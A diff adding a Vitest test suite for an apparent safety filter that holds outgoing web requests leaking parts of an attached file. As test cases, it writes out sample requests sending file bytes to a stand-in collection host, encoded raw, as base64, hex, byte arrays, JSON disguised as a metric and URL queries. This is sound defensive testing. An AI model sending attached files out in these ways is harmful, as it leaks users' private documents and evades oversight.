@@ -1,0 +1,50 @@
+import { describe, expect, it } from 'vitest';
+import { createFillJudge } from '@/safety/requests/judge-fill';
+import { call, site } from './a-request';
+
+/** What a document holds: words, and bytes that are none. */
+const words = Array.from({ length: 400 }, (_, at) => `Line ${at * 7919}: baked ${at * 31} loaves near Kraków.`).join(
+  '\n',
+);
+const bytes = new Uint8Array([
+  ...new TextEncoder().encode(words),
+  ...Array.from({ length: 3_000 }, (_, at) => (at * 97) % 251),
+]);
+const part = bytes.subarray(5_003, 5_403);
+const inBase64 = (of: Uint8Array) => btoa(String.fromCharCode(...of));
+const inHex = (of: Uint8Array) => Array.from(of, (byte) => byte.toString(16).padStart(2, '0')).join('');
+
+function aJudge() {
+  const judge = createFillJudge();
+  judge.addAnswer('Ottilie Quarrelwood', true);
+  judge.addFile('cv.pdf', bytes);
+  return judge;
+}
+
+const elsewhere = 'https://measure.example/collect';
+const post = (body: string) => call('POST', elsewhere, body);
+
+describe('a part of a document that was attached', () => {
+  it.each([
+    ['as it is', post(new TextDecoder().decode(part))],
+    ['in base64', post(inBase64(part))],
+    ['in base64, from another byte', post(inBase64(part.subarray(1)))],
+    ['in base64, within JSON', post(JSON.stringify({ kind: 'metric', d: inBase64(part.subarray(2)) }))],
+    ['in hexadecimal', post(inHex(part))],
+    ['byte by byte', post(JSON.stringify({ d: Array.from(part) }))],
+    ['in an address', call('GET', `${elsewhere}?d=${encodeURIComponent(inBase64(part.subarray(0, 200)))}`, '')],
+  ])('goes to nobody else: %s', (_, request) => {
+    expect(aJudge().isHeld(request)).toBe(true);
+  });
+
+  it('lets go what holds none of it', () => {
+    const judge = aJudge();
+    expect(judge.isHeld(call('GET', `${elsewhere}?d=${inBase64(new TextEncoder().encode('a'.repeat(60)))}`, ''))).toBe(
+      false,
+    );
+    expect(judge.isHeld(call('GET', `https://fonts.example/a.woff2?v=${inHex(bytes.subarray(0, 12))}`, ''))).toBe(
+      false,
+    );
+    expect(judge.isHeld(call('GET', `${site}/places?q=Krak`, ''))).toBe(false);
+  });
+});
